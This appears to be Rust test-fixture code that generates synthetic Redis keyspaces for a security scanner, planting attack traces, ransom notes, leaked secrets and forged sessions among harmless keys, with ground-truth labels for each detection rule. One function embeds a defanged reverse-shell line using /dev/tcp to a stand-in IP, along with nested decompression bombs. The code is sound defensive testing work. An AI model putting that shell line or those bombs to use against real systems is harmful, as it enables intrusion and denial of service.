//! The keyspaces of incidents that servers are loaded with.

use super::Keyspace;
use super::attacks::{How, Table, tables};
use super::dice::Dice;
use super::harmless::{command, fill, name};
use super::nest::{Wrap, nest};
use super::places::{Command, Place};
use super::secrets::kinds;
use super::template::{Expanded, expand};
use super::truth::{Kind, Spot, Truth};
use std::collections::HashSet;

/// Every one.
pub(crate) const CASES: [&str; 15] = [
    "I1",
    "I2",
    "I3",
    "I4",
    "I5",
    "I6",
    "I7",
    "I8",
    "I10",
    "I11",
    "I12",
    "I12.one-user",
    "I12.no-expiry",
    "I12.long-expiry",
    "I15",
];

/// Names that attackers have given keys, and that people give keys as well.
const NAMED: [&str; 14] = [
    "crackit",
    "cracklist",
    "weapon",
    "x",
    "1",
    "k",
    "pwn",
    "payload",
    "webshell",
    "getshell",
    "rtcron",
    "mimigo",
    "t",
    "test",
];
const NOTES: [&str; 6] = ["warning", "READ_ME_TO_RECOVER", "HOW_TO_RESTORE", "contact_us", "recovery", "0_data"];
/// How often each secret's rule is planted.
const SECRETS: usize = 8;

/// The keyspace of this name.
pub(crate) fn incident(case: &str, seed: u64) -> Keyspace {
    let dice = Dice::new(seed).of(case, 0);
    let mut planter = Planter { space: Keyspace::new(case), used: HashSet::new(), dice };
    match case {
        "I2" => planter.deleted(seed),
        "I7" => planter.wiped(seed),
        "I10" => planter.nested(seed),
        "I11" => planter.secrets(seed),
        "I15" => planter.everywhere(seed),
        "I12.one-user" | "I12.no-expiry" | "I12.long-expiry" => planter.sessions(),
        _ => planter.tables(case, seed),
    }
    planter.space
}

/// Every text of the critical and high rules with its essential byte broken: that rule must be silent.
pub(crate) fn mutated(seed: u64) -> Keyspace {
    let mut planter =
        Planter { space: Keyspace::new("mutated"), used: HashSet::new(), dice: Dice::new(seed).of("mutated", 0) };
    fill(&mut planter.space, 2000, &mut planter.dice);
    let dice = Dice::new(seed);
    for table in tables().filter(|table| ["critical", "high"].contains(&table.severity)) {
        for number in 0..table.count {
            let text = text(table, number, &dice, true);
            if text.marked {
                planter.hit(table, number, text, Kind::NearMiss);
            }
        }
    }
    planter.space
}

/// The text of a table's planting of this number; the same in every keyspace but for the mutated byte.
fn text(table: &Table, number: usize, dice: &Dice, mutated: bool) -> Expanded {
    let part = format!("{} {:?}", table.rule, table.how);
    expand(table.hits[number % table.hits.len()], &mut dice.of(&part, number), mutated)
}

struct Planter {
    space: Keyspace,
    used: HashSet<(u64, Vec<u8>)>,
    dice: Dice,
}

/// What is planted, but for the text and the place.
struct Meant<'a> {
    rule: &'a str,
    severity: &'static str,
    kind: Kind,
    also: &'a [&'static str],
    form: Option<&'static str>,
}

impl Planter {
    /// All tables of a case, among harmless keys.
    fn tables(&mut self, case: &str, seed: u64) {
        let dice = Dice::new(seed);
        let mine: Vec<&Table> = tables().filter(|table| table.case == case).collect();
        let plants: usize = mine.iter().map(|table| table.count + table.misses.len()).sum();
        fill(&mut self.space, (plants * 5).max(300), &mut self.dice);
        for table in mine {
            for number in 0..table.count {
                self.hit(table, number, text(table, number, &dice, false), Kind::Positive);
            }
            for number in 0..table.misses.len() {
                self.miss(table, number, &dice);
            }
        }
        if case == "I1" {
            self.backups(&dice);
        }
        if case == "I6" {
            self.space.truth.push(Truth::dump(case, "RD-LUA-005", "info"));
        }
    }

    fn hit(&mut self, table: &Table, number: usize, text: Expanded, kind: Kind) {
        let meant = Meant { rule: table.rule, severity: table.severity, kind, also: table.also, form: None };
        match table.how {
            How::Function => self.function(&meant, number, &text.bytes),
            How::Notes => self.plant(&meant, text, Place::String, None),
            How::Any | How::Bare => {
                let plain = table.how == How::Bare || number < table.hits.len() || number.is_multiple_of(2);
                let wrap = if plain { Wrap::Plain } else { Wrap::ALL[1 + (number * 5 + table.rule.len()) % 18] };
                let bytes = wrap.around(&text.bytes, &mut self.dice);
                let place = Place::VALUES[(number * 3 + table.rule.len()) % Place::VALUES.len()];
                self.plant(&meant, Expanded { bytes, ..text }, place, None);
            }
        }
    }

    fn miss(&mut self, table: &Table, number: usize, dice: &Dice) {
        let mut dice = dice.of(&format!("{} {:?} miss", table.rule, table.how), number);
        let text = expand(table.misses[number], &mut dice, false);
        let meant =
            Meant { rule: table.rule, severity: table.severity, kind: Kind::NearMiss, also: table.also, form: None };
        if table.how == How::Function {
            self.function(&meant, table.count + number, &text.bytes);
            return;
        }
        let place = Place::VALUES[(number * 3) % Place::VALUES.len()];
        self.plant(&meant, text, place, None);
    }

    fn plant(&mut self, meant: &Meant<'_>, text: Expanded, place: Place, named: Option<Vec<u8>>) {
        let key = if place == Place::KeyName { text.bytes.clone() } else { named.unwrap_or_else(|| self.name(meant)) };
        self.used.insert((self.space.db(), key.clone()));
        let (commands, element) = place.commands(&key, &text.bytes, &mut self.dice);
        self.space.commands.extend(commands);
        self.truth(meant, text, place.word(), Some(key), element);
    }

    fn truth(
        &mut self,
        meant: &Meant<'_>,
        text: Expanded,
        place: &'static str,
        key: Option<Vec<u8>>,
        element: Option<Spot>,
    ) {
        let truth = Truth {
            db: key.is_some().then_some(self.space.db()),
            key,
            place,
            element,
            kind: meant.kind,
            also: meant.also.iter().map(|&rule| rule.to_owned()).collect(),
            form: meant.form,
            secrets: text.secrets,
            text: text.bytes,
            ..Truth::dump(&self.space.case.clone(), meant.rule, meant.severity)
        };
        self.space.truth.push(truth);
    }

    /// A name that no key of this database has: one of the shop's, a random one, one of attackers'.
    fn name(&mut self, meant: &Meant<'_>) -> Vec<u8> {
        loop {
            let name = match self.dice.below(8) {
                0 if meant.kind == Kind::Positive && !meant.rule.contains("SEC") => self.dice.pick(&NAMED).to_owned(),
                0..=3 => self.dice.lower(7),
                _ => {
                    let number = 500_000 + self.dice.below(90_000);
                    name(number, &mut self.dice)
                }
            };
            if !self.used.contains(&(self.space.db(), name.clone().into_bytes())) {
                return name.into_bytes();
            }
        }
    }

    fn function(&mut self, meant: &Meant<'_>, number: usize, body: &[u8]) {
        let library = format!("{}_{number}_{}", self.dice.word(), meant.rule.replace('-', "_").to_lowercase());
        let head = format!("#!lua name={library}\nredis.register_function('{library}_f', function(keys, args)\n");
        let source = [head.as_bytes(), body, b"\nend)\n"].concat();
        self.space.add(vec![b"FUNCTION".to_vec(), b"LOAD".to_vec(), source]);
        let text = Expanded { bytes: body.to_vec(), ..Expanded::default() };
        self.truth(meant, text, "function", None, Some(Spot::Name(library)));
    }

    /// The same schedule in four strings of one database, as a worm leaves it, in three databases.
    fn backups(&mut self, dice: &Dice) {
        let Some(table) = tables().find(|table| table.rule == "RD-CRON-001") else { return };
        for db in 1..=3 {
            self.space.select(db);
            fill(&mut self.space, 60, &mut self.dice);
            for number in 0..4 {
                let mut dice = dice.of("backups", usize::try_from(db).expect("small") * 4 + number);
                let text = expand(table.hits[number], &mut dice, false);
                let meant = Meant {
                    rule: table.rule,
                    severity: "critical",
                    kind: Kind::Positive,
                    also: table.also,
                    form: None,
                };
                self.plant(&meant, text, Place::String, Some(format!("backup{}", number + 1).into_bytes()));
            }
            let truth = Truth { db: Some(db), ..Truth::dump("I1", "RD-KEY-002", "high") };
            self.space.truth.push(truth);
        }
        self.space.select(0);
    }

    /// Written for two minutes, then deleted: only the log has it.
    fn deleted(&mut self, seed: u64) {
        fill(&mut self.space, 300, &mut self.dice);
        let dice = Dice::new(seed);
        let Some(table) = tables().find(|table| table.rule == "RD-CRON-001") else { return };
        for number in 0..6 {
            let db = number as u64;
            self.space.select(db);
            let text = expand(table.hits[number % table.hits.len()], &mut dice.of("deleted", number), false);
            let meant = Meant {
                rule: table.rule,
                severity: "critical",
                kind: Kind::Positive,
                also: table.also,
                form: Some("aof"),
            };
            let set: Command =
                vec![b"SET".to_vec(), b"t".to_vec(), text.bytes.clone(), b"EX".to_vec(), b"120".to_vec()];
            self.space.add(set);
            self.space.add(command(&["DEL", "t"]));
            self.truth(&meant, text, "value", Some(b"t".to_vec()), None);
        }
    }

    /// A shop, then nothing but notes.
    fn wiped(&mut self, seed: u64) {
        fill(&mut self.space, 800, &mut self.dice);
        self.space.add(command(&["FLUSHALL"]));
        let truth = Truth { form: Some("aof"), ..Truth::dump("I7", "RD-RANSOM-002", "high") };
        self.space.truth.push(truth);
        let dice = Dice::new(seed);
        for table in tables().filter(|table| table.case == "I7") {
            let meant = |kind| Meant { rule: table.rule, severity: table.severity, kind, also: table.also, form: None };
            for number in 0..table.count {
                self.space.select((number / 3) as u64);
                let place = Place::ALL[[0, 0, 1][number % 3]];
                let name = NOTES[(number * 5 + number / 6) % NOTES.len()].as_bytes().to_vec();
                let place = if place == Place::ListHead { Place::String } else { place };
                self.plant(&meant(Kind::Positive), text(table, number, &dice, false), place, Some(name));
            }
            self.space.select(15);
            fill(&mut self.space, 200, &mut self.dice);
            for number in 0..table.misses.len() {
                self.miss(table, number, &dice);
            }
        }
    }

    /// Texts one, two and three decodings deep, and bombs.
    fn nested(&mut self, seed: u64) {
        fill(&mut self.space, 600, &mut self.dice);
        let dice = Dice::new(seed);
        let sources: Vec<&Table> =
            tables().filter(|table| table.how == How::Any && ["critical", "high"].contains(&table.severity)).collect();
        for number in 0..72 {
            let table = sources[(number * 7) % sources.len()];
            let wrap = Wrap::ALL[1 + number % 18];
            let text = expand(table.hits[number % table.hits.len()], &mut dice.of("nested", number), false);
            let bytes = wrap.around(&text.bytes, &mut self.dice);
            let meant = Meant {
                rule: table.rule,
                severity: table.severity,
                kind: Kind::Positive,
                also: table.also,
                form: None,
            };
            let place = Place::VALUES[number % Place::VALUES.len()];
            self.plant(&meant, Expanded { bytes, ..text }, place, None);
        }
        let zeros = vec![b'0'; 4 << 20];
        let first = [b"echo DEFANGED; exec 5<>/dev/tcp/192.0.2.7/4444\n".to_vec(), zeros.clone()].concat();
        for (number, (bomb, holds)) in [
            (nest("gz", &zeros), false),
            (nest("zstd", &zeros), false),
            (nest("b64", &nest("gz", &nest("gz", &zeros))), false),
            (nest("gz", &first), true),
            (nest("b64", &nest("zlib", &first)), true),
        ]
        .into_iter()
        .enumerate()
        {
            let key = format!("bomb:{number}").into_bytes();
            let kind = if holds { Kind::Positive } else { Kind::NearMiss };
            let meant =
                Meant { rule: "RD-EXEC-003", severity: "critical", kind, also: &["RD-ENT", "RD-BIN-002"], form: None };
            self.plant(&meant, Expanded { bytes: bomb, ..Expanded::default() }, Place::String, Some(key));
        }
    }

    fn secrets(&mut self, seed: u64) {
        fill(&mut self.space, 3300, &mut self.dice);
        let dice = Dice::new(seed);
        for (at, secret) in kinds().enumerate() {
            let severity = if secret.rule.starts_with("RD-PII") { "medium" } else { "high" };
            let also: Vec<&str> =
                secret.also.iter().copied().chain(["RD-ENT", "RD-PII-IP", "RD-PII-EMAIL", "RD-KEY-001"]).collect();
            let meant = |kind| Meant { rule: secret.rule, severity, kind, also: &also, form: None };
            for number in 0..SECRETS {
                let text = expand(secret.hits[number % secret.hits.len()], &mut dice.of(secret.rule, number), false);
                let wrap = match number {
                    5 => Wrap::Base64,
                    6 => Wrap::Json,
                    7 => Wrap::Base64Gzip,
                    _ => Wrap::Plain,
                };
                let bytes = wrap.around(&text.bytes, &mut self.dice);
                let place = Place::VALUES[(number * 3 + at) % Place::VALUES.len()];
                self.plant(&meant(Kind::Positive), Expanded { bytes, ..text }, place, None);
            }
            for (number, miss) in secret.misses.iter().enumerate() {
                let text = expand(miss, &mut dice.of(secret.rule, 100 + number), false);
                let place = Place::VALUES[(number * 3 + at + 1) % Place::VALUES.len()];
                self.plant(&meant(Kind::NearMiss), text, place, None);
            }
        }
        for rule in ["RD-SEC-GITHUB", "RD-SEC-STRIPE", "RD-SEC-JWT"] {
            let Some(secret) = kinds().find(|kind| kind.rule == rule) else { continue };
            let text = expand(secret.hits[0], &mut dice.of(rule, 50), false);
            let bytes = [b"login:", &text.bytes[..]].concat();
            let meant = Meant { rule, severity: "high", kind: Kind::Positive, also: secret.also, form: None };
            self.plant(&meant, Expanded { bytes, ..text }, Place::KeyName, None);
        }
    }

    /// One text of each of a dozen rules at every place of every type.
    fn everywhere(&mut self, seed: u64) {
        self.space.select(15);
        fill(&mut self.space, 1200, &mut self.dice);
        let dice = Dice::new(seed);
        let rules = [
            "RD-CRON-001",
            "RD-EXEC-003",
            "RD-SSH-001",
            "RD-WEB-001",
            "RD-WEB-003",
            "RD-MOD-003",
            "RD-LUA-001",
            "RD-EXEC-001",
            "RD-EXEC-002",
            "RD-MINE-001",
            "RD-DES-PHP",
            "RD-DES-JAVA",
            "RD-JNDI",
            "RD-XSS-002",
        ];
        for (at, rule) in rules.iter().enumerate() {
            let Some(table) = tables().find(|table| table.rule == *rule) else { continue };
            for (number, place) in Place::ALL.into_iter().enumerate() {
                let text = expand(table.hits[number % 3], &mut dice.of("everywhere", at * 20 + number), false);
                let meant =
                    Meant { rule, severity: table.severity, kind: Kind::Positive, also: table.also, form: None };
                self.plant(&meant, text, place, None);
            }
        }
        if let Some(table) = tables().find(|table| table.rule == "RD-LUA-001" && table.how == How::Function) {
            self.hit(table, 0, text(table, 900, &dice, false), Kind::Positive);
        }
    }

    /// Sessions of which some are stolen or forged.
    fn sessions(&mut self) {
        let case = self.space.case.clone();
        fill(&mut self.space, 300, &mut self.dice);
        for number in 0..3000 {
            let user = if case == "I12.one-user" && number % 3 != 0 { 1 } else { 1000 + number };
            let name = self.dice.first_name();
            let session = format!(
                r#"{{"user_id":{user},"name":"{name}","csrf":"{}","cart":[{}],"created":{}}}"#,
                self.dice.lower(12),
                self.dice.below(9999),
                1_759_900_000 + number
            );
            let key = format!("sess:{}", self.dice.uuid());
            let ttl = match (case.as_str(), number % 1000) {
                ("I12.no-expiry", 7..=9) => None,
                ("I12.long-expiry", 7..=9) => Some("315360000"),
                _ => Some("86400"),
            };
            let mut set = command(&["SET", &key, &session]);
            if let Some(seconds) = ttl {
                set.extend(command(&["EX", seconds]));
            }
            self.space.add(set);
        }
        self.space.truth.push(Truth::dump(&case, "RD-SESS-001", "medium"));
    }
}
